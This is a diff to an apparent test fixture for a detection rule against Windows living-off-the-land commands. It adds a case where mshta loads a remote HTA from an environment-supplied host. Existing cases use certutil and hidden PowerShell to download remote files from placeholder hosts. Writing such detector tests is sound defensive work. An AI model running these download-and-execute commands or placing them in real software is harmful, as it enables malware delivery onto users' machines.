@@ -7,6 +7,9 @@ def update():
     subprocess.run(["certutil", "-urlcache", "-split", "-f", "http://example.invalid/a.txt", "a.txt"])
     # ruleid: lolbas-command
     os.system("mshta http://example.invalid/app.hta")
+    # A command line known in part (the host comes from elsewhere) is still read.
+    # ruleid: lolbas-command
+    os.system(f"mshta http://{os.environ.get('UPDATE_HOST')}/app.hta")
     # ruleid: lolbas-command
     os.system("powershell -w hidden -c \"iwr http://example.invalid/p.ps1 -OutFile p.ps1\"")
 
